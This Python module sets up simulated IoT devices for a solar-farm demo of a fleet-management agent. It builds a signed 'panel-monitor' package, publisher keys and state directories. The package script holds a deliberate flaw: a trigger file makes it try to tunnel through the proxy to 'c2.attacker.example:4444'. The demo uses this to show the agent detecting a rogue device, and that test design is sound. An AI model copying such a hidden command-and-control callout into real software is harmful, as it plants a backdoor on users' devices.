"""Simulated devices that are real agents: a state directory each, a software root of trust, a signed
application package installed, and the :class:`~fleetward.agent.runtime.Agent` runtime in this process.

:func:`panel_monitor_package` builds the solar farm's application, *panel-monitor*: a small program (the
Python standard library and fleetward's ``appkit``, shipped in the package, so any user may run it with
the system's interpreter) that sends 20 readings as telemetry through the agent's application API (its
count kept in its own storage, across restarts), answers the direct method ``read_power``, and reports
back its desired ``max_temperature``. A file ``crash-now`` dropped into its storage directory makes it
crash as a faulty driver would (a segmentation fault after a line naming an address), which is how the
demo shows crash reporting. Releases before 2.2.2 have a flaw: a file ``phone-home`` in its storage (an
attacker's doing) makes it try to reach a host its manifest does not declare, once a second, through the
agent's proxy (which refuses and reports it): how the demo shows a device turning rogue.
:func:`prepare_agent` lays out one device's state directory the way ``fleetward agent init`` and
``fleetward agent app install`` do.
"""

from __future__ import annotations

import shutil
import sys
from dataclasses import dataclass
from pathlib import Path

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from fleetward import appkit
from fleetward.agent.config import AgentSettings, render_agent_toml, write_private_file
from fleetward.agent.install import install_package
from fleetward.agent.manifest import AllowedConnection, Capabilities, Manifest
from fleetward.agent.package import build_package, sign_package
from fleetward.agent.rot import SoftwareRootOfTrust
from fleetward.wire.versions import parse_version

PANEL_MONITOR = "5e1f7a2c-3b4d-4c8e-9f10-2a3b4c5d6e7f"
PANEL_MONITOR_VERSION = "2.1.0"
#: the first release without the ``phone-home`` flaw
FIXED_VERSION = "2.2.2"
WEATHER_SERVICE = "weather.solar.example:443"
INVERTER_BRIDGE = "7c2d9e41-0a6b-4f3c-8d5e-1b2a3c4d5e6f"
SYSTEM_PYTHON = Path("/usr/bin/python3")

PANEL_MONITOR_SCRIPT = r"""
import os, signal, socket, sys, time, urllib.parse

from appkit import AgentClient, AgentError  # shipped in the package, next to this script

READINGS = 20
FLAWED = True
print("panel-monitor 2.1.0 started", flush=True)
agent = AgentClient(timeout=10).connect()
limits = {"max_temperature": 80}


def read_power(payload):
    unit = (payload or {}).get("unit", "W")
    return 200, {"power_watts": 312.5, "unit": unit, "answered_by": "panel-monitor"}


def on_desired(desired):
    limits.update({key: value for key, value in desired.properties.items() if value is not None})
    agent.report({"max_temperature": limits["max_temperature"]})
    print("max_temperature is now", limits["max_temperature"], flush=True)


def phone_home():
    proxy = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", ""))
    if not proxy.hostname:
        return
    target = b"c2.attacker.example:4444"
    try:
        with socket.create_connection((proxy.hostname, proxy.port), timeout=2) as tunnel:
            tunnel.sendall(b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\n\r\n")
            tunnel.recv(1024)
    except OSError:
        pass


def once_enrolled(action):
    # cloud requests wait for the device's first certificate (the agent knows its tenant only then)
    while True:
        try:
            return action()
        except AgentError as error:
            if error.code != "device_not_enrolled":
                raise
            time.sleep(0.1)


once_enrolled(lambda: agent.on_method("read_power", read_power))
once_enrolled(lambda: agent.on_desired(on_desired))
try:  # how many readings went out is kept in the application's own storage, across restarts
    with open("readings.count") as counter:
        sent = int(counter.read() or 0)
except FileNotFoundError:
    sent = 0
called_home = 0.0
while True:
    if FLAWED and os.path.exists("phone-home") and time.monotonic() - called_home >= 1:
        called_home = time.monotonic()
        phone_home()
    if os.path.exists("crash-now"):
        os.unlink("crash-now")
        sys.stderr.write("reading register 40071 of the inverter\n")
        sys.stderr.write("segfault at 0x%x in modbus worker %d\n" % (id(limits) * 16, os.getpid()))
        sys.stderr.flush()
        os.kill(os.getpid(), signal.SIGSEGV)
    if sent < READINGS:
        agent.send_telemetry({"power_watts": 300 + sent, "panel_temperature": 31.5})
        sent += 1
        with open("readings.count", "w") as counter:
            counter.write(str(sent))
    agent.run(duration=0.02 if sent < READINGS else 0.1)
"""


def app_interpreter() -> str:
    """An interpreter every application user may execute: the system's, else the one running this."""
    return str(SYSTEM_PYTHON) if SYSTEM_PYTHON.exists() else sys.executable


def script(body: str) -> bytes:
    return f"#!{app_interpreter()}\n{body.strip()}\n".encode()


def with_appkit(files: dict[str, bytes], directory: str = "bin") -> dict[str, bytes]:
    """``files`` and fleetward's appkit (one file of standard-library Python) beside the entry point."""
    return {**files, f"{directory}/appkit.py": Path(appkit.__file__).read_bytes()}


#: what a broken release of panel-monitor does first: it exits, as a release missing a data file would
BROKEN_START = """
import sys
sys.stderr.write("panel-monitor {version}: the inverter calibration table is missing\\n")
sys.exit(3)
"""


def panel_monitor_package(
    tenant_id: str, version: str = PANEL_MONITOR_VERSION, *, broken: bool = False
) -> bytes:
    """panel-monitor ``version`` for ``tenant_id``'s devices (DeviceAuthentication names the tenant);
    ``broken``: a release that exits at once (it never passes an update's trial). From 2.2.2 on the
    ``phone-home`` flaw is fixed."""
    manifest = Manifest(
        name="panel-monitor",
        component_id=PANEL_MONITOR,
        entry_point="bin/panel-monitor",
        capabilities=Capabilities(
            mutable_storage_kb=64,
            device_authentication=tenant_id,
            # the weather forecast it fetches: the one destination it declares
            allowed_connections=(AllowedConnection.parse(WEATHER_SERVICE),),
        ),
    )
    body = PANEL_MONITOR_SCRIPT.replace(f"panel-monitor {PANEL_MONITOR_VERSION}", f"panel-monitor {version}")
    if parse_version(version) >= parse_version(FIXED_VERSION):
        body = body.replace("FLAWED = True", "FLAWED = False")
    if broken:
        body = BROKEN_START.format(version=version) + body
    return build_package(manifest, with_appkit({"bin/panel-monitor": script(body)}))


def inverter_bridge_package() -> bytes:
    manifest = Manifest(name="inverter-bridge", component_id=INVERTER_BRIDGE, entry_point="bin/bridge")
    return build_package(manifest, {"bin/bridge": script("import time\ntime.sleep(3600)")})


@dataclass(frozen=True)
class Publisher:
    """Who signs the farm's packages; its public key is what the agents trust."""

    key: ec.EllipticCurvePrivateKey
    public_key_file: Path

    @classmethod
    def create(cls, directory: Path) -> Publisher:
        key = ec.generate_private_key(ec.SECP256R1())
        path = directory / "publisher.pem"
        directory.mkdir(parents=True, exist_ok=True)
        path.write_bytes(
            key.public_key().public_bytes(
                serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
            )
        )
        return cls(key, path)

    def publish(self, package: bytes, path: Path) -> Path:
        """Write ``package`` and its signature where an agent installs it from."""
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(package)
        path.with_name(path.name + ".sig").write_bytes(sign_package(self.key, package))
        return path


def prepare_agent(
    state_dir: Path,
    *,
    authority_url: str,
    hub_port: int,
    ca_file: Path,
    publisher: Publisher,
    packages: list[tuple[Path, str, str]],
    agent_values: dict[str, object] | None = None,
) -> AgentSettings:
    """A device's state directory as ``agent init`` and ``agent app install`` leave it; its settings.

    ``packages`` are (path, SHA-256, version) to install; ``agent_values`` are more ``agent.toml`` keys.
    """
    values: dict[str, object] = {
        "authority_url": authority_url,
        "ca_file": str(ca_file),
        "publisher_keys": [str(publisher.public_key_file)],
        "hub.host": "127.0.0.1",
        "hub.port": hub_port,
        **(agent_values or {}),
    }
    state_dir.mkdir(parents=True, exist_ok=True, mode=0o700)
    write_private_file(state_dir / "agent.toml", render_agent_toml(values))
    SoftwareRootOfTrust.load_or_create(state_dir / "identity.key")
    settings = AgentSettings.load(state_dir, environ={})
    for path, sha256, version in packages:
        install_package(settings, path, sha256, version)
    return AgentSettings.load(state_dir, environ={})


def corrupt_installed_package(settings: AgentSettings, component_id: str) -> None:
    """Flip bytes of an installed package, as a failing flash would: measured launch refuses it then."""
    (record,) = [record for record in settings.apps if record.component_id == component_id]
    data = bytearray(record.package_path.read_bytes())
    data[-2048] ^= 0xFF
    record.package_path.chmod(0o600)
    record.package_path.write_bytes(bytes(data))


def remove_agents(directory: Path) -> None:
    shutil.rmtree(directory, ignore_errors=True)
